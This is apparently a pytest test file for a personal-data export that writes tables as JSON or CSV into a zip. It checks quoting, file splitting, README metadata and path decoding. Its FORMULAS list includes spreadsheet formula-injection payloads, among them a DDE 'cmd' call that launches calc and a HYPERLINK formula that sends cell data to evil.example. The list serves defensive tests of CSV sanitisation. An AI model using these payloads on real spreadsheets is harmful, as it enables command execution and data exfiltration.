"""The zip that somebody's data comes in."""

import csv
import io
import json
from collections.abc import Sequence
from datetime import UTC, date, datetime
from typing import Any
from uuid import UUID, uuid4

import pytest
from hypothesis import given
from hypothesis import strategies as st

from db.export import ExportColumn, ExportTable, Kind
from domains.audit import export_file
from domains.audit.export_file import ExportFile, Sink, as_cell, quoted
from domains.audit.export_links import PATH, path_of, request_of
from tests.domains.audit.exports import unpacked

NOON = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
KINDS: dict[str, Kind] = {
    "name": "text",
    "amount": "decimal",
    "count": "integer",
    "is_on": "boolean",
    "at": "instant",
    "day": "date",
    "data": "json",
    "tags": "list",
    "raw": "bytes",
}
TABLE = ExportTable(
    "bank", "bank_schema.things", "things", "Things.", tuple(ExportColumn(*each, None) for each in KINDS.items()), {"pin": "a secret"}
)
ROW: dict[str, Any] = {
    "name": 'a "b", c\r\nd',
    "amount": "-12.5000",
    "count": -3,
    "is_on": True,
    "at": NOON,
    "day": date(2026, 1, 2),
    "data": '{"x": [1, null]}',
    "tags": ["=1", "é"],
    "raw": b"\x00\xff",
}
NOTHING = dict.fromkeys(KINDS)


def made(export_format: str, rows: Sequence[dict[str, Any]], added: dict[str, str] | None = None) -> dict[str, bytes]:
    sink = Sink(1000)
    file = ExportFile(sink, export_format, NOON)
    file.begin(TABLE, added or {})
    file.add(rows)
    file.end()
    file.close({"layout": 1})
    pieces = [*sink.take_full(), sink.take_rest()]
    assert sum(map(len, pieces)) == sink.written_bytes
    return unpacked(b"".join(pieces))


def test_json_is_an_array_with_a_row_to_a_line() -> None:
    content = made("json", [ROW, NOTHING])["bank/things.json"]

    assert json.loads(content) == [
        {
            **ROW,
            "at": "2026-11-22T12:00:00Z",
            "day": "2026-01-02",
            "data": {"x": [1, None]},
            "raw": "00ff",
        },
        NOTHING,
    ]
    first, one, two, last = content.decode().removesuffix("\n").split("\n")
    assert (first, one[-1], two[:1], last) == ("[", ",", "{", "]")
    assert json.loads(made("json", [])["bank/things.json"]) == []


def test_csv_is_rfc_4180() -> None:
    content = made("csv", [ROW, NOTHING, {**NOTHING, "name": ""}])["bank/things.csv"]

    head, row, nothing, empty = csv.reader(io.StringIO(content.decode(), newline=""), strict=True)
    assert head == list(KINDS)
    said = ['a "b", c\r\nd', "-12.5000", "-3", "true", "2026-11-22T12:00:00Z", "2026-01-02", '{"x": [1, null]}', '["=1","é"]', "00ff"]
    assert row == said
    assert nothing == empty == [""] * len(KINDS)
    assert content.split(b"\r\n")[-3:] == [b",,,,,,,,", b'"",,,,,,,,', b""]


#: What a spreadsheet has been seen to take for a formula, or to strip until it does.
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "\tplain",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_be_a_formula_has_a_tab_before_it(text: str) -> None:
    content = made("csv", [{**NOTHING, "name": text, "amount": "-1.00"}])["bank/things.csv"]

    _, row = csv.reader(io.StringIO(content.decode(), newline=""), strict=True)
    assert row[:2] == ["\t" + text, "-1.00"]


@pytest.mark.parametrize("text", ['",=1+1', '";=1', "a\r\n=1", "a,=1", "a\t=1", '"=1"'])
def test_a_text_cannot_leave_its_cell(text: str) -> None:
    content = made("csv", [{**NOTHING, "name": text}])["bank/things.csv"]

    [_, row] = csv.reader(io.StringIO(content.decode(), newline=""), strict=True)
    assert row == [text, *[""] * (len(KINDS) - 1)]


@given(st.text(alphabet=st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=20))
def test_any_text_comes_back_and_never_as_a_formula(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(quoted(text) + "\r\n", newline=""), strict=True)

    assert cell in (text, "\t" + text)
    assert cell[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\r", "\n")


def test_a_name_of_a_category_stands_beside_its_row() -> None:
    files = made("json", [{**ROW, "category_name": "Food"}], {"category_name": "what you call category"})

    assert json.loads(files["bank/things.json"])[0]["category_name"] == "Food"
    [table] = json.loads(files["README.json"])["tables"]
    assert table["columns"][-1] == {"name": "category_name", "type": "text", "about": "what you call category"}


def test_the_readme_counts_and_describes() -> None:
    readme = json.loads(made("csv", [ROW, ROW])["README.json"])

    assert readme["layout"] == 1
    [table] = readme["tables"]
    assert {name: table[name] for name in ("domain", "table", "about", "rows", "files", "leftOut")} == {
        "domain": "bank",
        "table": "things",
        "about": "Things.",
        "rows": 2,
        "files": ["bank/things.csv"],
        "leftOut": [{"name": "pin", "reason": "a secret"}],
    }
    assert {each["name"]: each["type"] for each in table["columns"]} == KINDS


def test_a_table_that_is_too_large_for_one_file_goes_on_in_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_file, "PART_BYTES", 250)

    files = made("json", [ROW] * 4)

    parts = [name for name in files if name != "README.json"]
    assert parts == ["bank/things.json", "bank/things-2.json"]
    assert [len(json.loads(files[name])) for name in parts] == [2, 2]


def test_pieces_are_full_but_the_last_which_is_never_empty() -> None:
    sink = Sink(10)
    taken: list[bytes] = []
    for length in (3, 7, 1, 25, 4):
        sink.write(bytes(length))
        taken += sink.take_full()

    assert [len(each) for each in taken] == [10, 10, 10]
    assert len(sink.take_rest()) == 10
    assert sink.written_bytes == 40


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (False, "false"), (True, "true")])
def test_a_truth_is_a_word(value: bool | None, cell: str) -> None:
    assert as_cell("boolean", value) == cell


def test_a_path_names_one_request_in_one_way() -> None:
    request_id = uuid4()
    name = path_of(request_id).removeprefix(PATH)

    assert (len(name), request_of(name)) == (22, request_id)
    assert str(request_id) not in path_of(request_id)
    assert request_of(path_of(UUID(int=0)).removeprefix(PATH)) == UUID(int=0)


@pytest.mark.parametrize(
    "name",
    [
        "",
        "x",
        "A" * 21,
        "A" * 23,
        "A" * 21 + "B",
        "A" * 21 + "=",
        "A" * 22 + "==",
        "../" * 7 + "A",
        "é" * 22,
        "A" * 10_000,
        str(UUID(int=1)),
        "AAAA AAAA AAAA AAAA AAA",
        "+" * 22,
    ],
)
def test_any_other_path_names_none(name: str) -> None:
    assert request_of(name) is None
